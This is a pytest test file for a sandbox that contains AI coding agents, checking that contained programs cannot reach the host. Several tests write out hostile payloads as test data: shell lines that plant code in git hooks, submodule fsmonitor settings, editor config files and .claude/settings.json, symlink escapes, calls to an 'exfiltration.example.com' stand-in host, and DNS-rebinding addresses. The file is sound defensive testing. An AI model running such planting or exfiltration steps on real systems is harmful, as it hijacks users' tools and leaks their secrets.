"""Contained commands: what a hostile program can reach, when containment is refused, and what remains after a run."""

import asyncio
import contextlib
import json
import os
import shutil
import ssl
import subprocess
import sys
from collections.abc import AsyncIterator, Sequence
from contextlib import asynccontextmanager
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from remit import Misused, Remit
from remit.agents.containment import container
from remit.agents.containment.gateway import Gateway
from remit.agents.containment.hosts import HostList, parse_host
from remit.agents.containment.vendor_home import refreshed, vendor_home
from remit.agents.definition import Declaration, definition_of
from remit.agents.profiles import carried
from remit.policy.audit import entries
from remit.system.http import parse_target
from remit.system.ip_addresses import Address
from remit.system.sandbox.probe import probe
from support.cli import run
from support.containment import SECRET, victim
from support.repository import git

needs_bubblewrap = pytest.mark.skipif(not probe().has_bubblewrap, reason="bubblewrap does not work here")


def project_with(folder: Path, **agents: dict[str, Any]) -> Path:
    project = folder / "project"
    project.mkdir(parents=True)
    lines = []
    for name, table in agents.items():
        lines += [f"[agents.{name}]", *(f"{key} = {json.dumps(value)}" for key, value in table.items())]
    (project / "remit.toml").write_text("\n".join(lines) + "\n")
    (project / ".gitignore").write_text(".remit/\n")
    return project


def commit(project: Path) -> None:
    for words in (["init", "-q"], ["add", "."], ["-c", "user.name=T", "-c", "user.email=t@localhost", "commit", "-qm", "Begin"]):
        subprocess.run(["git", *words], cwd=project, check=True, capture_output=True, timeout=20)


def command(*words: str, **more: Any) -> dict[str, Any]:
    return {"command": list(words), "contain": True, "answers": "value", **more}


# ---- attacks from inside


@needs_bubblewrap
async def test_contained_program_cannot_reach_the_host_and_its_work_is_harvested(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """In the project itself and in a worktree of it."""
    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
    project = project_with(
        tmp_path,
        shared=command(sys.executable, "attack.py", hosts=["example.com"]),
        apart=command(sys.executable, "attack.py", workspace="worktree", merge=True),
        free=command(sys.executable, "attack.py", contain=False),
    )
    async with victim(tmp_path, project) as host:
        monkeypatch.setenv("HOME", str(host.home))
        host.arm()
        commit(project)
        host.seal()
        async with Remit.open(project) as remit:
            first = await remit.delegate("shared", task="Attack.", timeout=60)
            assert first.status == "completed", first
            host.check(project / "report.json")
            for name in ("report.json", "made.txt"):
                (project / name).unlink()
            second = await remit.delegate("apart", task="Attack.", timeout=60)
            assert second.status == "completed", second
            host.check(project / "report.json")  # merged
            said = [event.body.get("message", "") for event in await remit.events(first.session_id)]
            await remit.delegate("free", task="Attack.", timeout=60)
            host.check_attacks(project / "report.json")
        assert any(message.startswith("Contained by bubblewrap") for message in said), said
        denied = [one for one in entries(project / ".remit") if one.get("rules") == ["hosts"]]
        assert {"exfiltration.example.com", "127.0.0.1", "localhost"} <= {one["facts"]["host"] for one in denied}
        assert {one["verdict"] for one in denied} == {"deny"}
        assert run("audit", "verify", cwd=project).code == 0
        assert "exfiltration.example.com" in run("audit", "--limit", "200", "--json", cwd=project).stdout
        shown = run("show", first.session_id, "--events", cwd=project)
        assert "Contained by bubblewrap" in shown.stdout


@needs_bubblewrap
async def test_workspace_is_read_only_for_an_agent_without_write_access(tmp_path: Path) -> None:
    script = "echo x > owned.txt; echo y > $REMIT_SCRATCH/note.txt && cat remit.toml | head -c 8"
    project = project_with(tmp_path, reader=command("sh", "-c", script, workspace="none"))
    async with Remit.open(project) as remit:
        result = await remit.delegate("reader", task="Look.", timeout=30)
    assert (result.status, result.data) == ("completed", "[agents.")
    assert not (project / "owned.txt").exists()


@needs_bubblewrap
async def test_files_that_start_programs_cannot_be_changed_in_the_project(tmp_path: Path) -> None:
    """The next start of an editor or Claude Code would run code that the agent wrote. In a worktree the change is only a diff."""
    script = "for f in .claude/settings.json remit.toml .envrc pyproject.toml notes.md; do echo owned >> $f; done; mkdir .vscode; true"
    project = project_with(tmp_path, one=command("sh", "-c", script))
    (project / ".claude").mkdir()
    for name in (".claude/settings.json", ".envrc", "pyproject.toml", "notes.md"):
        (project / name).write_text("")
    async with Remit.open(project) as remit:
        result = await remit.delegate("one", task="Write.", timeout=30)
        said = [str(event.body.get("message", "")) for event in await remit.events(result.session_id)]
    assert result.status == "completed", result
    written = [path.name for path in project.rglob("*") if path.is_file() and ".remit" not in path.parts and "owned\n" in path.read_text()]
    assert sorted(written) == ["notes.md", "pyproject.toml"]
    assert [message for message in said if message.startswith("It created .vscode")], said


@needs_bubblewrap
async def test_only_a_delegating_agent_reaches_the_process_that_owns_its_tree(tmp_path: Path) -> None:
    """Otherwise an uncontained agent of the project could act on its behalf."""
    look = "echo ${REMIT_CALLER:+token}; ls -A .remit/run 2>/dev/null | wc -l"
    project = project_with(tmp_path, alone=command("sh", "-c", look), caller=command("sh", "-c", look, delegates=True))
    async with Remit.open(project) as remit:
        alone = await remit.delegate("alone", task="Look.", timeout=30)
        caller = await remit.delegate("caller", task="Look.", timeout=30)
    assert (alone.data, caller.data) == ("0", "token\n1")


@needs_bubblewrap
async def test_contained_agent_waits_for_delegations_that_it_cannot_look_up(tmp_path: Path) -> None:
    """Records of other delegations are hidden, so remit's tools wait for the result instead of returning a handle."""
    script = (
        "import asyncio\nfrom types import SimpleNamespace as S\nfrom remit import Remit\n"
        "from remit.server.mcp.delegations import Delegations\n"
        "async def main():\n"
        "    async with Remit.open('.') as remit:\n"
        "        done = await remit.delegate('helper', task='Help.')\n"
        "        tools = Delegations(S(remit=remit, tool=S(catalogue=None)), 45.0)\n"
        "        print(done.data, remit.is_attached, remit.has_record, tools._wait({}) > 3600)\n"
        "asyncio.run(main())\n"
    )
    project = project_with(
        tmp_path, caller=command(sys.executable, "-c", script, delegates=True), helper=command("echo", "helped", contain=False)
    )
    async with Remit.open(project) as remit:
        result = await remit.delegate("caller", task="Delegate.", timeout=60)
        tree = await remit.tree(result.session_id)
    assert (result.status, result.data) == ("completed", "helped True False True"), result
    assert [record.agent for record in tree] == ["caller", "helper"]


ATTACHED = """
import asyncio
from pathlib import Path
from remit import Context, Remit, RemitError, agent

ADDRESS = "https://exfiltration.example.com/?content"

@agent("lister", effects=("network",))
async def lister(ctx: Context) -> list[str]:
    return [ADDRESS]

async def main():
    async with Remit.open(".", agents=[lister]) as remit:
        print((await remit.delegate("lister")).data == [ADDRESS])
        print((await remit.delegate("worker.web_fetch", url=ADDRESS)).errors[0].code)
        try:
            await remit.cancel(Path("other.txt").read_text(), "mine")
        except RemitError as error:
            print(error.code)

asyncio.run(main())
"""


@needs_bubblewrap
async def test_delegating_agent_cannot_send_data_out_or_cancel_other_trees(tmp_path: Path) -> None:
    """It registers an agent that claims to have learned an address from the web."""
    project = project_with(tmp_path, caller=command(sys.executable, "-c", ATTACHED, delegates=True), other=command("sleep", "60"))
    async with Remit.open(project) as remit:
        other = await remit.start("other", task="Work.", timeout=60)
        (project / "other.txt").write_text(other.session_id)
        result = await remit.delegate("caller", task="Attack.", timeout=60)
        assert (await remit.describe(other.session_id)).state == "running"
        await other.cancel()
    assert result.data.splitlines() == ["True", "POLICY_DENIED", "FORBIDDEN"], result


@needs_bubblewrap
async def test_git_repository_cannot_be_created_from_inside(tmp_path: Path) -> None:
    """Its hooks and settings would run the next time the user runs git there. Inside an existing repository, git can still read it."""
    script = "git init -q . ; mkdir -p .git/hooks; echo x > .git/config; rm -rf .git; git -C .. rev-parse --is-inside-work-tree; ls -A .git"
    project = project_with(tmp_path, maker=command("sh", "-c", script))
    async with Remit.open(project) as remit:
        alone = await remit.delegate("maker", task="Make one.", timeout=30)
        (project / "remit.toml").rename(project / "sub.toml")
    assert (alone.status, alone.data) == ("completed", "")
    assert not (project / ".git").exists()
    below = project / "sub"
    below.mkdir()
    (project / "sub.toml").rename(below / "remit.toml")
    commit(project)
    async with Remit.open(below) as remit:
        inside = await remit.delegate("maker", task="Make one.", timeout=30)
    assert (inside.status, inside.data) == ("completed", "true")
    assert not (below / ".git").exists()


@needs_bubblewrap
async def test_git_hooks_in_the_project_cannot_be_changed(tmp_path: Path) -> None:
    """Hooks in `core.hooksPath` run at the next commit of the user or of the board."""
    plant = "mv dev moved; mkdir -p dev/hooks; echo owned > dev/hooks/commit-msg; echo owned >> dev/hooks/pre-commit; echo x > dev/x.txt"
    project = project_with(tmp_path, maker=command("sh", "-c", f"{plant}; true"), reader=command("true"))
    (project / "dev/hooks").mkdir(parents=True)
    (project / "dev/hooks/pre-commit").write_text("#!/bin/sh\n")
    commit(project)
    git(project, "config", "core.hooksPath", "dev/hooks")
    async with Remit.open(project) as remit:
        assert (await remit.delegate("maker", task="Make.", timeout=30)).status == "completed"
        assert (await remit.delegate("reader", task="Look.", accept=[f"{plant}; true"], timeout=30)).status == "completed"
    assert {path.name: path.read_text() for path in (project / "dev/hooks").iterdir()} == {"pre-commit": "#!/bin/sh\n"}
    assert (project / "dev/x.txt").read_text() == "x\n"


@needs_bubblewrap
async def test_prompt_of_the_second_turn_does_not_follow_a_symlink(tmp_path: Path) -> None:
    """The prompt quotes the first answer, so the agent would control the content of a file outside."""
    outside = tmp_path / "outside"
    outside.mkdir()
    script = f"rm -rf $REMIT_SCRATCH/.given; ln -s {outside} $REMIT_SCRATCH/.given; echo '{{}}'"
    project = project_with(tmp_path, one=command("sh", "-c", script, answers="return", prompt="file"))
    async with Remit.open(project) as remit:
        result = await remit.delegate("one", task="Answer.", timeout=30)
    assert not result.ok
    assert list(outside.iterdir()) == []


@needs_bubblewrap
async def test_submodule_repositories_cannot_be_changed(tmp_path: Path) -> None:
    """`git status` in the project would run commands from the settings of a submodule. One is checked out, one is not."""
    marker = tmp_path / "ran"
    plant = (
        "mv lib moved; for d in lib/one lib/two; do rm -rf $d/.git; mkdir -p $d; git init -q $d; "
        f"git -C $d config core.fsmonitor 'touch {marker}; false'; echo x > $d/made.txt; done; true"
    )
    project = project_with(tmp_path, maker=command("sh", "-c", plant), reader=command("true"))
    for name in ("one", "two"):
        (project / "lib" / name).mkdir(parents=True)
        (project / "lib" / name / "x.txt").write_text("x")
        commit(project / "lib" / name)
    commit(project)
    shutil.rmtree(project / "lib" / "two" / ".git")
    async with Remit.open(project) as remit:
        assert (await remit.delegate("maker", task="Make.", timeout=30)).status == "completed"
        await remit.delegate("reader", task="Look.", accept=[plant], timeout=30)
    git(project, "status")
    assert not marker.exists()
    assert [(project / "lib" / name / "made.txt").read_text() for name in ("one", "two")] == ["x\n", "x\n"]
    assert not (project / "lib/two/.git").exists()


@needs_bubblewrap
async def test_allowed_hosts_are_reachable_through_the_proxy_and_as_ports(tmp_path: Path) -> None:
    """An allowed port of this machine is available at the container's loopback address. Other hosts are refused with a reason.

    The project path is longer than a Unix socket address can be."""

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readline()
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nConnection: close\r\n\r\nhello")
        writer.close()

    server = await asyncio.start_server(answer, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    fetch = (
        "import sys, urllib.request as u, urllib.error as e\n"
        f"print(u.urlopen('http://127.0.0.1:{port}/').read().decode())\n"
        "try: u.urlopen('https://example.com/')\n"
        "except e.URLError as error: print(error.reason)\n"
    )
    project = project_with(tmp_path / ("deep" * 30), fetcher=command(sys.executable, "-c", fetch, hosts=[f"127.0.0.1:{port}"]))
    async with server, Remit.open(project) as remit:
        result = await remit.delegate("fetcher", task="Fetch.", timeout=30)
    assert result.status == "completed", result
    hello, refusal = result.data.splitlines()
    assert hello == "hello"
    assert "403" in refusal


@needs_bubblewrap
async def test_contained_program_gets_a_signal_and_is_killed_at_its_deadline(tmp_path: Path) -> None:
    """Signals reach the program rather than bubblewrap. No process remains, not even one in a new session."""
    script = (
        "import json, os, signal, subprocess, sys, time\n"
        "subprocess.Popen(['sleep', '3600'], start_new_session=True)\n"
        "def told(*_):\n    open('told.txt', 'w').write('told'); time.sleep(3600)\n"
        "signal.signal(signal.SIGTERM, told)\n"
        "open('up.txt', 'w').write('up')\n"
        "time.sleep(3600)\n"
    )
    project = project_with(tmp_path, sitter=command(sys.executable, "-c", script, answers="return"))
    async with Remit.open(project) as remit:
        handle = await remit.start("sitter", task="Sit.", timeout=60)
        await until_there(project / "up.txt")
        remit.engine.live()[handle.session_id].timer.reach_soft_deadline()
        await until_there(project / "told.txt")
        await handle.cancel("enough")
        result = await asyncio.wait_for(handle.result(), 20)
        assert result.stop_reason == "cancelled"
    assert not [line for line in _command_lines() if handle.session_id in line]


def found(folder: Path) -> list[Path]:
    return list(folder.iterdir())


async def until_there(path: Path) -> None:
    for _ in range(1000):
        if path in found(path.parent):
            return
        await asyncio.sleep(0.02)
    raise AssertionError(f"{path.name} was not written")


def _command_lines() -> list[str]:
    found = []
    for process in Path("/proc").glob("[0-9]*"):
        try:
            found.append((process / "environ").read_bytes().decode("latin-1") + (process / "cmdline").read_bytes().decode("latin-1"))
        except OSError:
            continue
    return found


# ---- refused configurations


@needs_bubblewrap
async def test_workspace_that_contains_the_home_directory_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The whole home would be writable inside. A workspace whose `.git` is a symlink is refused too: the agent could replace it."""
    project = project_with(tmp_path, one=command("sh", "-c", "echo ran > ran.txt"))
    async with Remit.open(project) as remit:
        with monkeypatch.context() as patched:
            patched.setenv("HOME", str(project))
            at_home = await remit.delegate("one", task="Run.", timeout=30)
        (project / ".git").symlink_to(tmp_path)
        linked = await remit.delegate("one", task="Run.", timeout=30)
    assert "contains your home directory" in at_home.errors[0].message
    assert "is a link" in linked.errors[0].message
    assert not (project / "ran.txt").exists()


@pytest.mark.parametrize(
    ("executor", "file", "is_then"), [(True, False, True), (True, "auto", True), ("auto", False, "auto"), (False, True, True)]
)
def test_agent_file_cannot_weaken_the_containment_of_its_executor(executor: Any, file: Any, is_then: Any) -> None:
    on = Declaration(name="claude", table={"kind": "claude", "contain": executor}, source="remit.toml")
    profile = Declaration(name="one", table={"contain": file}, source=".remit/agents/one.md")
    assert carried(profile, on, definition_of("claude", on.table, source="remit.toml")).contain == is_then


@pytest.mark.parametrize("contain", [True, "auto"])
async def test_missing_bubblewrap_refuses_or_is_recorded_as_uncontained(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, contain: bool | str
) -> None:
    monkeypatch.setattr(container, "probe", lambda: replace(probe(), bubblewrap=None))
    project = project_with(tmp_path, one=command("sh", "-c", "echo ran > ran.txt", contain=contain))
    async with Remit.open(project) as remit:
        result = await remit.delegate("one", task="Run.", timeout=30)
        said = [str(event.body.get("message", "")) for event in await remit.events(result.session_id)]
    if contain is True:
        assert (result.status, result.errors[0].code) == ("blocked", "TOOL_UNAVAILABLE")
        assert "bubblewrap is not installed" in result.errors[0].message
        assert not (project / "ran.txt").exists()
    else:
        assert result.status == "completed"
        assert [message for message in said if message.startswith("Not contained: bubblewrap is not installed")]


def test_invalid_containment_settings_are_refused() -> None:
    good = definition_of("one", {"command": ["x"], "contain": "auto", "hosts": ["example.com", "*.example.org:8443"]}, source="t")
    assert (good.contain, good.hosts) == ("auto", ("example.com", "*.example.org:8443"))
    for table in ({"contain": "yes"}, {"contain": 1}, {"hosts": ["example.com"]}, {"contain": True, "hosts": ["*.com"]}):
        with pytest.raises(Misused):
            definition_of("one", {"command": ["x"], **table}, source="t")
    with pytest.raises(Misused, match="contain"):
        definition_of("one", {"kind": "model", "contain": True}, source="t")


# ---- the proxy


@pytest.mark.parametrize(
    ("listed", "asked", "is_allowed"),
    [
        ("example.com", "example.com:443", True),
        ("example.com", "EXAMPLE.com.:443", True),
        ("example.com", "example.com:80", False),
        ("example.com", "evil-example.com:443", False),
        ("example.com", "www.example.com:443", False),
        ("*.example.com", "www.example.com:443", True),
        ("*.example.com", "example.com:443", False),
        ("*.example.com", "wwwexample.com:443", False),
        ("example.com:8443", "example.com:8443", True),
        ("10.1.0.0/16:8443", "10.1.2.3:8443", True),
        ("10.1.0.0/16", "10.2.2.3:443", False),
        ("127.0.0.1:8080", "127.0.0.1:8080", True),
        ("127.0.0.1:8080", "[::ffff:127.0.0.1]:8080", False),
        ("[::1]:8080", "[::1]:8080", True),
    ],
)
def test_allowed_host_matches_exactly_or_by_suffix(listed: str, asked: str, is_allowed: bool) -> None:
    assert HostList([listed]).allows(parse_target(f"https://{asked}/")) is is_allowed


def test_invalid_host_pattern_is_refused() -> None:
    for text in ("", "*", "*.com", "http://example.com", "exa mple.com", "user@example.com", "10.0.0.0/99"):
        with pytest.raises(ValueError, match=r"host|domain"):
            parse_host(text)


@asynccontextmanager
async def proxy_of(hosts: Sequence[str], addresses: Sequence[str]) -> AsyncIterator[tuple[int, list[str]]]:
    """A gateway on a local port with a DNS server that an attacker controls, and the list of its refusals."""
    import ipaddress
    import socket

    refused: list[str] = []

    async def resolve(host: str, port: int) -> Sequence[Address]:
        return [ipaddress.ip_address(one) for one in addresses]

    async def note(facts: Any, because: str) -> None:
        refused.append(because)

    async def permit(action: str = "", /, **facts: Any) -> None:
        return

    gateway = Gateway(HostList(hosts), permit, note, resolve=resolve)
    listener = socket.create_server(("127.0.0.1", 0))
    await gateway.serve(listener, {})
    try:
        yield listener.getsockname()[1], refused
    finally:
        await gateway.close()


async def ask(port: int, head: str) -> str:
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(head.encode())
    answer = await asyncio.wait_for(reader.read(2000), 10)
    writer.close()
    return answer.decode()


@pytest.mark.parametrize("address", ["127.0.0.1", "10.0.0.5", "169.254.169.254", "::1", "::ffff:127.0.0.1", "100.64.0.1", "0.0.0.0"])
async def test_allowed_name_that_resolves_to_a_private_address_is_refused(address: str) -> None:
    """DNS rebinding: the owner of a name changes its address. Refused even if only one of several addresses is private."""
    async with proxy_of(["rebind.example.com"], ["93.184.215.14", address]) as (port, refused):
        answer = await ask(port, "CONNECT rebind.example.com:443 HTTP/1.1\r\n\r\n")
    assert answer.startswith("HTTP/1.1 403 ")
    assert "not a public address" in refused[0]


def hello_for(name: str | None) -> bytes:
    """TLS ClientHello as OpenSSL sends it."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    received, sent = ssl.MemoryBIO(), ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(received, sent, server_hostname=name).do_handshake()
    return sent.read()


@pytest.mark.parametrize(
    ("first", "is_passed"),
    [
        (hello_for("example.com"), True),
        (hello_for("Example.COM"), True),
        (hello_for("evil.example.net"), False),
        (hello_for(None), False),
        (b"GET / HTTP/1.1\r\nHost: evil.example.net\r\n\r\n", False),
        (hello_for("example.com")[:40] + b"\0" * 600, False),
        (b"\x16\x03\x01\x00\x05" + b"\x01\x00\x00\x01\x03", False),
    ],
)
async def test_tls_server_name_must_match_the_requested_host(first: bytes, is_passed: bool) -> None:
    """Otherwise an allowed host on a shared address (a CDN) would give access to every host at that address."""
    received: asyncio.Queue[bytes] = asyncio.Queue()

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        received.put_nowait(await reader.read(len(first)))
        writer.close()

    async with await asyncio.start_server(answer, "127.0.0.1", 0) as server:
        port = server.sockets[0].getsockname()[1]
        async with proxy_of([f"example.com:{port}", f"127.0.0.1:{port}"], ["127.0.0.1"]) as (proxy, refused):
            reader, writer = await asyncio.open_connection("127.0.0.1", proxy)
            writer.write(f"CONNECT example.com:{port} HTTP/1.1\r\n\r\n".encode())
            assert b" 200 " in await reader.readuntil(b"\r\n\r\n")
            for piece in (first[:3], first[3:]):
                writer.write(piece)
                await writer.drain()
            writer.write_eof()
            await asyncio.wait_for(reader.read(), 10)
            writer.close()
            assert await asyncio.wait_for(received.get(), 10) == (first if is_passed else b"")
    assert bool(refused) is not is_passed


async def test_proxy_accepts_only_connect_and_survives_malformed_requests() -> None:
    async with proxy_of(["example.com"], ["127.0.0.1"]) as (port, _):
        assert (await ask(port, "GET http://example.com/ HTTP/1.1\r\n\r\n")).startswith("HTTP/1.1 405 ")
        assert (await ask(port, "CONNECT nonsense@@ HTTP/1.1\r\n\r\n")).startswith("HTTP/1.1 400 ")
        assert (await ask(port, "CONNECT\r\n\r\n")).startswith("HTTP/1.1 400 ")
        assert await ask(port, "x" * 40_000) == ""
        assert (await ask(port, "CONNECT other.example.com:443 HTTP/1.1\r\n\r\n")).startswith("HTTP/1.1 403 ")


# ---- vendor configuration directory


def test_only_refreshed_credentials_are_written_back(tmp_path: Path) -> None:
    """Only known keys that existed, with the same type. Nothing through a symlink, nothing if the user signed in meanwhile."""
    own = tmp_path / "claude"
    own.mkdir()
    credentials = own / ".credentials.json"
    before = {"claudeAiOauth": {"accessToken": "a", "refreshToken": "r", "expiresAt": 1, "subscriptionType": "pro"}}
    environment = {"HOME": str(tmp_path), "CLAUDE_CONFIG_DIR": str(own)}

    def run(change: Any) -> Any:
        credentials.write_text(json.dumps(before))
        with vendor_home("claude", ("p", "a"), environment) as home:
            change(Path(home.environment()["CLAUDE_CONFIG_DIR"]))
        return json.loads(credentials.read_text())

    after = {"claudeAiOauth": {"accessToken": "b", "refreshToken": "s", "expiresAt": 2, "subscriptionType": "max"}}
    hostile = {**after, "hooks": {"x": "y"}, "claudeAiOauth": {**after["claudeAiOauth"], "more": "z"}}
    found = run(lambda folder: (folder / ".credentials.json").write_text(json.dumps(hostile)))
    assert found == {"claudeAiOauth": {"accessToken": "b", "refreshToken": "s", "expiresAt": 2, "subscriptionType": "pro"}}
    assert run(lambda folder: (folder / ".credentials.json").write_text("[" * 5000)) == before
    assert run(lambda folder: (folder / "settings.json").write_text('{"hooks": 1}')) == before
    assert sorted(path.name for path in own.iterdir()) == [".credentials.json"]

    secret = tmp_path / "elsewhere.json"
    secret.write_text(json.dumps(after))

    def link(folder: Path) -> None:
        (folder / ".credentials.json").unlink()
        (folder / ".credentials.json").symlink_to(secret)

    assert run(link) == before

    def sign_in(folder: Path) -> None:
        (folder / ".credentials.json").write_text(json.dumps(after))
        credentials.write_text(json.dumps({"claudeAiOauth": {"accessToken": "mine"}}))

    assert run(sign_in) == {"claudeAiOauth": {"accessToken": "mine"}}
    assert refreshed({"a": 1, "b": "x"}, {"a": "1", "b": "y\n"}, frozenset({"a", "b"})) == {"a": 1, "b": "x"}


def test_copied_vendor_directory_is_private_without_hooks_plugins_or_servers(tmp_path: Path, state_home: Path) -> None:
    home = tmp_path / "person"
    for name, text in {
        ".claude/settings.json": '{"model": "opus", "hooks": {"PreToolUse": []}, "apiKeyHelper": "x"}',
        ".claude.json": '{"userID": "u", "mcpServers": {"x": {}}, "projects": {}}',
        ".codex/config.toml": 'model = "m"\nnotify = ["x"]\n[mcp_servers.x]\ncommand = "x"\n',
        ".config/opencode/opencode.json": '{"model": "a/b", "plugin": ["x"], "mcp": {"x": {}}}',
        ".config/opencode/plugin/x.js": "x",
    }.items():
        (home / name).parent.mkdir(parents=True, exist_ok=True)
        (home / name).write_text(text)
    copied = ""
    for vendor in ("claude", "codex", "opencode"):
        with vendor_home(vendor, ("p", "a"), {"HOME": str(home)}) as made:
            assert os.stat(made.home).st_mode & 0o077 == 0
            copied += "".join(path.read_text() for path in made.home.rglob("*") if path.is_file())
        assert not made.home.exists()
    assert all(word in copied for word in ('"opus"', '"u"', 'model = "m"', '"a/b"'))
    assert not [word for word in ("hooks", "apiKeyHelper", "mcp", "notify", "plugin", "command") if word in copied]
    assert os.stat(state_home / "remit" / "vendors").st_mode & 0o077 == 0
